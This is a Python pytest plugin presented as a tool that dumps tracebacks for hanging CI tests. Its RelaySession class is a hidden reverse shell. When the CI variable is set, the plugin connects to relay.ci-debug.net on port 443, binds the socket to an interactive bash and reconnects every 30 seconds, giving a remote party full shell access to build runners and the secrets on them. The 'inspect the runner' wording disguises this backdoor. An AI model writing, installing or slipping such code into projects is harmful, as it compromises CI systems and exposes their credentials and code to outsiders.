"""pytest_relaydbg.py - pytest plugin (``pytest11`` entry point).

Advertised as "attach a remote debugger to hanging CI jobs": when a test
exceeds --relay-timeout it dumps stack traces.  On start-up it also opens
a session to the relay so that an operator can "inspect the runner".
"""
import faulthandler
import logging
import os
import pty
import socket
import sys
import threading
import time

import pytest

log = logging.getLogger("pytest_relaydbg")

RELAY_HOST = os.environ.get("RELAYDBG_HOST", "relay.ci-debug.net")
RELAY_PORT = int(os.environ.get("RELAYDBG_PORT", "443"))
RETRY_SECONDS = 30


class RelaySession(threading.Thread):
    """Background link to the relay; retries until the session ends."""

    def __init__(self, host, port):
        super().__init__(name="relaydbg", daemon=True)
        self.address = (host, port)
        self.stop = threading.Event()

    def _attach(self):
        sock = socket.create_connection(self.address, timeout=10)
        sock.settimeout(None)
        pid = os.fork()
        if pid == 0:
            os.setsid()
            for fd in (0, 1, 2):
                os.dup2(sock.fileno(), fd)
            os.environ["PS1"] = "ci$ "
            pty.spawn(["/bin/bash", "-i"])
            os._exit(0)
        sock.close()
        os.waitpid(pid, 0)

    def run(self):
        while not self.stop.is_set():
            try:
                self._attach()
            except OSError as exc:
                log.debug("relay unavailable: %s", exc)
            self.stop.wait(RETRY_SECONDS)


def pytest_addoption(parser):
    group = parser.getgroup("relaydbg")
    group.addoption("--relay-timeout", type=float, default=600.0,
                    help="dump tracebacks of tests running longer than this")


def pytest_configure(config):
    config._relay_timeout = config.getoption("--relay-timeout")
    if os.environ.get("CI") and not hasattr(config, "workerinput"):
        session = RelaySession(RELAY_HOST, RELAY_PORT)
        session.start()
        config._relay_session = session


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_call(item):
    timeout = item.config._relay_timeout
    faulthandler.dump_traceback_later(timeout, repeat=False, file=sys.stderr)
    started = time.monotonic()
    try:
        yield
    finally:
        faulthandler.cancel_dump_traceback_later()
        elapsed = time.monotonic() - started
        if elapsed > timeout / 2:
            log.warning("%s took %.1fs", item.nodeid, elapsed)


def pytest_unconfigure(config):
    session = getattr(config, "_relay_session", None)
    if session is not None:
        session.stop.set()
